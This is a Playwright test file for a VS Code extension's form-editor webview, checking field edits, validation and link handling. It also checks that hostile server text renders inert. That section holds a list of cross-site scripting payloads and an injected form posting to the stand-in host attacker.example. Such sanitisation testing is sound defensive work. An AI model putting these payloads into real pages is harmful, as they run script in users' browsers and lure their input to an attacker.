import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import { withoutBidiControls } from '../../src/shared/bidi';
import { fieldElementId, type FormModel } from '../../src/shared/form';
import { fieldId, lastEdit, openEditorPage, sendToWebview, show, useSampleEditor } from './harness';

// The form is built as the extension builds it: from what the Lightfield adapter reads of the local server.
const { browser, sample, described, form } = useSampleEditor();

async function fill(page: Page, selector: string, text: string): Promise<void> {
  await page.locator(selector).fill(text);
}

/** Picks an option the way a user does: from a select, or by ticking its box in a group of choices. */
async function choose(page: Page, key: string, label: string): Promise<void> {
  const control = page.locator(fieldId(key));
  if (await control.evaluate((node) => node instanceof HTMLSelectElement)) await control.selectOption({ label });
  else await control.locator('label', { hasText: label }).click();
}

describe('the editor webview in Chromium', () => {
  it('keeps what the user changed when the service\'s newer version arrives, takes the rest, and tells the host', async () => {
    const model = form({ task: sample.tasks[0] });
    const page = await openEditorPage(browser.context(), browser.harness(), { type: 'show', model, values: model.values, errors: {} });
    await fill(page, fieldId('$title'), 'Typed before the newer version came');
    const newer = { ...model.values, $title: 'Changed elsewhere', phone: '+1 555 0100' };
    await sendToWebview(page, { type: 'show', model: { ...model, values: newer }, values: newer, errors: {}, keepEdits: true });
    const valueIs = (key: string, value: string) =>
      page.waitForFunction(([id, expected]) => (document.getElementById(id) as HTMLInputElement | null)?.value === expected, [fieldElementId(key), value] as const);
    await valueIs('phone', '+1 555 0100');
    assert.equal(await page.locator(fieldId('$title')).inputValue(), 'Typed before the newer version came');
    const sent = await lastEdit(page);
    assert.equal(sent.$title, 'Typed before the newer version came');
    assert.equal(sent.phone, '+1 555 0100', 'the edit the host hears is on the newer version');
    // A version shown without keepEdits (a revert, a save's answer) replaces what was typed.
    await sendToWebview(page, { type: 'show', model, values: model.values, errors: {} });
    await valueIs('$title', model.values.$title as string);
    await page.close();
  });

  it('renders every value type and edits each to the payload the host expects', async () => {
    const page = await openEditorPage(browser.context(), browser.harness());
    const model = form({ task: sample.tasks[0] });
    await show(page, model);
    const labelIds = described().fields.find((field) => field.key === 'labels')!.options!;

    await fill(page, fieldId('$title'), 'A new title');
    await page.locator(`${fieldId('$status')} label`, { hasText: 'In progress' }).click();
    await choose(page, '$assignedTo', 'Grace Hopper');
    await fill(page, fieldId('$dueAt'), '2027-01-15T09:30');
    await fill(page, fieldId('$description'), 'Some **bold** text');
    await fill(page, fieldId('estimate'), '4.25');
    await fill(page, fieldId('budget'), '1999.99');
    await page.locator(fieldId('billable')).click();
    await choose(page, 'labels', labelIds[0].label);
    await choose(page, 'labels', labelIds[2].label);
    await fill(page, fieldId('contactEmail'), 'a@b.co\nc@d.co');
    await fill(page, fieldId('website'), 'https://example.com/x');
    await fill(page, fieldId('phone'), '+33 1 23 45 67 89');
    await fill(page, `${fieldId('siteAddress')}-city`, 'Lyon');
    await fill(page, `${fieldId('siteAddress')}-country`, 'FR');
    await fill(page, `${fieldId('siteAddress')}-latitude`, '45.76');
    await fill(page, `${fieldId('reviewer')}-firstName`, 'Ada');
    await fill(page, `${fieldId('reviewer')}-lastName`, 'Lovelace');
    await fill(page, fieldId('twitter'), 'https://twitter.com/ada');
    await fill(page, fieldId('$account'), 'acc_123');

    const values = await lastEdit(page);
    assert.equal(values.$title, 'A new title');
    assert.equal(values.$status, 'IN_PROGRESS');
    const grace = model.fields.find((f) => f.key === '$assignedTo')?.options?.find((o) => o.label === 'Grace Hopper');
    assert.deepEqual(values.$assignedTo, [grace?.id]);
    assert.equal(Date.parse(values.$dueAt as string), new Date('2027-01-15T09:30').getTime());
    assert.match(values.$dueAt as string, /[+-]\d{2}:\d{2}$/, 'sent with an offset');
    assert.equal(values.$description, 'Some **bold** text');
    assert.equal(values.estimate, 4.25);
    assert.equal(values.budget, 1999.99);
    assert.equal(values.billable, !model.values.billable);
    assert.deepEqual(values.labels, [labelIds[0].id, labelIds[2].id]);
    assert.deepEqual(values.contactEmail, ['a@b.co', 'c@d.co']);
    assert.equal(values.website, 'https://example.com/x');
    assert.deepEqual(values.phone, ['+33 1 23 45 67 89']);
    assert.deepEqual(values.siteAddress, { city: 'Lyon', country: 'FR', latitude: 45.76 });
    assert.deepEqual(values.reviewer, { firstName: 'Ada', lastName: 'Lovelace' });
    assert.equal(values.twitter, 'https://twitter.com/ada');
    assert.deepEqual(values.$account, ['acc_123']);

    assert.equal(await page.locator(`${fieldId('summary')}.read-only`).innerText(), sample.tasks[0].fields.summary.value);
    assert.equal(await page.locator('.field[data-key="budget"] .suffix').innerText(), 'EUR');
    // HTML: the service's own rendering, shown sanitised and read-only.
    await page.locator(`${fieldId('brief')} b`).waitFor();
    assert.equal(await page.locator(`${fieldId('brief')} script, ${fieldId('brief')} img[onerror], ${fieldId('brief')} textarea`).count(), 0);
    assert.equal(await page.evaluate(() => window.__canaryFired), 0);
    await page.locator('.preview-toggle').click();
    assert.equal(await page.locator('.markdown-preview strong').innerText(), 'bold');
    assert.deepEqual(await page.evaluate(() => window.__violations), [], 'the strict CSP blocks nothing the editor needs');
    await page.close();
  });

  it('picks a linked record by name: the linked one shown by its name, others found by searching through the host', async () => {
    const page = await openEditorPage(browser.context(), browser.harness());
    const base = form({ task: sample.tasks[0] });
    const model = { ...base, fields: base.fields.map((f) => (f.key === '$account' ? { ...f, options: [{ id: 'acc_1', label: 'Acme Corp' }], searchable: true, idPrefix: undefined } : f)), values: { ...base.values, $account: ['acc_1'] } };
    await show(page, model);
    assert.equal(await page.locator(`${fieldId('$account')} option:checked`).innerText(), 'Acme Corp');
    await page.locator(`${fieldId('$account')}-search`).fill('Glo');
    await page.waitForFunction(() => window.__posted.some((m) => m.type === 'search'));
    const asked = await page.evaluate(() => window.__posted.find((m) => m.type === 'search'));
    assert.ok(asked?.type === 'search' && asked.key === '$account' && asked.text === 'Glo', JSON.stringify(asked));
    await sendToWebview(page, { type: 'searchResult', requestId: asked.requestId, key: '$account', options: [{ id: 'acc_2', label: 'Globex' }] });
    await page.locator(`${fieldId('$account')} option`, { hasText: 'Globex' }).waitFor({ state: 'attached' });
    await page.locator(fieldId('$account')).selectOption({ label: 'Globex' });
    assert.deepEqual((await lastEdit(page)).$account, ['acc_2']);
    await page.close();
  });

  it('shows a read-only choice or link by its label, not its ID (a Close task\'s lead, say)', async () => {
    const page = await openEditorPage(browser.context(), browser.harness());
    const base = form({ task: sample.tasks[0] });
    // Fixed after creation, as a Close task's lead is: the form still knows the names of the choices.
    const model = { ...base, fields: base.fields.map((f) => (f.key === '$assignedTo' || f.key === 'priority' ? { ...f, readOnly: true } : f)) };
    await show(page, model);
    const assignee = base.fields.find((f) => f.key === '$assignedTo')?.options?.find((o) => o.id === (base.values.$assignedTo as string[])[0]);
    assert.ok(assignee);
    assert.equal(await page.locator(`${fieldId('$assignedTo')}.read-only`).innerText(), assignee.label);
    const priority = base.fields.find((f) => f.key === 'priority')?.options?.find((o) => o.id === base.values.priority);
    if (priority) assert.equal(await page.locator(`${fieldId('priority')}.read-only`).innerText(), priority.label);
    await page.close();
  });

  it('shows validation messages at the field as the user types, and host errors where they belong', async () => {
    const page = await openEditorPage(browser.context(), browser.harness());
    const model = form({});
    await show(page, model);
    const errorOf = (key: string) => page.locator(`.field[data-key="${key}"] .field-error`);
    await fill(page, fieldId('estimate'), '1.234');
    assert.equal(await errorOf('estimate').innerText(), 'At most two decimals.');
    await fill(page, fieldId('website'), 'javascript:alert(1)');
    assert.equal(await errorOf('website').innerText(), 'Enter an http(s) link.');
    await fill(page, fieldId('$title'), 'x');
    await fill(page, fieldId('$title'), '');
    assert.equal(await errorOf('$title').innerText(), 'Required.');
    await fill(page, fieldId('estimate'), '1.5');
    assert.equal(await errorOf('estimate').isHidden(), true);
    await page.locator('button.save').click();
    const save = await page.evaluate(() => window.__posted.find((message) => message.type === 'save'));
    assert.ok(save && save.type === 'save' && typeof save.requestId === 'number');
    await sendToWebview(page, { type: 'saveResult', requestId: save.requestId, ok: false, errors: { $assignedTo: 'No member with ID mem_x.' }, message: 'Lightfield refused the change.' });
    await errorOf('$assignedTo').filter({ hasText: 'No member with ID mem_x.' }).waitFor();
    await page.locator('.banner', { hasText: 'Lightfield refused the change.' }).waitFor();
    await page.close();
  });
});

const HOSTILE = [
  '<script>__canary()</script>',
  '<img src=x onerror="__canary()">',
  '"><svg onload=__canary()>',
  'javascript:__canary()',
  '[click me](javascript:__canary())',
  '<a href="javascript:__canary()" id="evil">link</a>',
  '<iframe srcdoc="<script>parent.__canary()</script>"></iframe>',
  `${'W'.repeat(3000)}`,
  '\u202Eעברית מימין לשמאל\u202C مرحبا بالعالم',
];

/** The same model with a hostile string in every slot the server provides. */
function hostileModel(base: FormModel, text: string): FormModel {
  return {
    ...base,
    title: text,
    httpLink: 'javascript:__canary()',
    fields: base.fields.map((field) => ({
      ...field,
      label: text,
      description: text,
      options: field.options?.map((option) => ({ ...option, label: `${option.label} ${text}` })),
    })),
    values: Object.fromEntries(
      base.fields.map((field) => {
        if (field.valueType === 'TEXT' || field.valueType === 'MARKDOWN') return [field.key, `${text}\n\n[link](javascript:__canary()) <img src=x onerror=__canary()>\n\n<form action="https://attacker.example"><input name="q"><button>Send</button></form><style>main{display:none}</style>`];
        return [field.key, base.values[field.key]];
      }),
    ),
  };
}

describe('the editor webview with hostile server text', () => {
  it('renders every hostile string as inert text in every server-provided slot', async () => {
    const page = await openEditorPage(browser.context(), browser.harness());
    const base = form({ task: sample.tasks[1], members: sample.members.map((m) => ({ ...m, name: HOSTILE[1] })) });
    for (const text of HOSTILE) {
      await show(page, hostileModel(base, text));
      assert.equal(await page.locator('.title').evaluate((node) => node.textContent), withoutBidiControls(text));
      await page.locator('.preview-toggle').first().click();
      await page.locator('.markdown-preview a').first().click({ timeout: 2000 }).catch(() => undefined);
      await page.locator('button.open-link').click();
      const injected = await page.evaluate(
        () => document.querySelectorAll('main script, main iframe, main svg, main [onerror], main [onload], main a[href^="javascript:"], .markdown-preview :is(form, input, button, style)').length,
      );
      assert.equal(injected, 0, `markup injected by ${text.slice(0, 40)}`);
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      // Shadow roots included: the UI library renders its inner parts there. A string: no compiled helpers in the page.
      const culprits = await page.evaluate<string[]>(`(() => {
        const found = [];
        const visit = (root, host) => {
          for (const element of root.querySelectorAll('*')) {
            if (element.getBoundingClientRect().right > window.innerWidth + 1) found.push(host + element.tagName + '.' + String(element.className));
            if (element.shadowRoot) visit(element.shadowRoot, element.tagName + '>');
          }
        };
        visit(document, '');
        const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
        for (let node = walker.nextNode(); node; node = walker.nextNode()) {
          const range = document.createRange();
          range.selectNodeContents(node);
          if (range.getBoundingClientRect().right > window.innerWidth + 1) found.push('text in ' + node.parentElement.tagName + '.' + node.parentElement.className);
        }
        return found;
      })()`);
      assert.ok(overflow <= 1, `long text overflows the page by ${overflow}px: ${culprits.slice(0, 5).join(', ')}`);
    }
    await page.waitForTimeout(300);
    assert.equal(await page.evaluate(() => window.__canaryFired), 0, 'the canary never fired');
    const links = await page.evaluate(() => window.__posted.filter((m) => m.type === 'openLink').map((m) => (m.type === 'openLink' ? m.url : '')));
    assert.ok(links.length > 0, 'link clicks go to the host, which decides');
    await page.close();
  });

  it('paints the state the page was built with before any message, and that state stays inert text', async () => {
    const model = hostileModel(form({ task: sample.tasks[1] }), HOSTILE.find((text) => text.includes('"'))!);
    const page = await openEditorPage(browser.context(), browser.harness(), { type: 'show', model, values: model.values, errors: {} });
    // No `show` was sent: the page is what the host built.
    assert.equal(await page.locator('.title').evaluate((node) => node.textContent), model.title);
    assert.equal(await page.locator('.field').count(), model.fields.length);
    const ready = await page.evaluate(() => window.__posted.find((m) => m.type === 'ready'));
    assert.ok(ready?.type === 'ready' && ready.pageMs > 0, 'ready says how long after the page began it was usable');
    await page.waitForTimeout(300);
    assert.equal(await page.evaluate(() => window.__canaryFired), 0, 'the canary never fired');
    assert.deepEqual(await page.evaluate(() => window.__violations), [], 'no CSP violation');
    await page.close();
  });

  it('opens a clicked preview link once, through the host: VS Code\'s own link handler never sees the click', async () => {
    const page = await openEditorPage(browser.context(), browser.harness());
    // VS Code's webview script opens every clicked link from a bubbling listener on the window.
    await page.evaluate(`
      window.__hostOpened = 0;
      window.addEventListener('click', (event) => { if (event.composedPath().some((n) => n.tagName === 'A')) window.__hostOpened += 1; });
      window.addEventListener('auxclick', (event) => { if (event.composedPath().some((n) => n.tagName === 'A')) window.__hostOpened += 1; });
    `);
    const model = form({ task: sample.tasks[0] });
    await show(page, model, { ...model.values, $description: 'See [the spec](https://example.com/spec)' });
    await page.locator('.preview-toggle').first().click();
    const link = page.locator('.markdown-preview a', { hasText: 'the spec' });
    await link.click();
    await link.click({ button: 'middle' });
    const opened = await page.evaluate(() => window.__posted.filter((m) => m.type === 'openLink').map((m) => (m.type === 'openLink' ? m.url : '')));
    assert.deepEqual(opened, ['https://example.com/spec', 'https://example.com/spec'], 'each click asks the host once');
    assert.equal(await page.evaluate('window.__hostOpened'), 0, 'the click never reached the window\'s own link handler');
    await page.close();
  });

  it('has a canary that does fire when script does run (the check can fail)', async () => {
    const page = await openEditorPage(browser.context(), browser.harness());
    await page.evaluate(() => window.__canary());
    assert.equal(await page.evaluate(() => window.__canaryFired), 1);
    await page.close();
  });
});
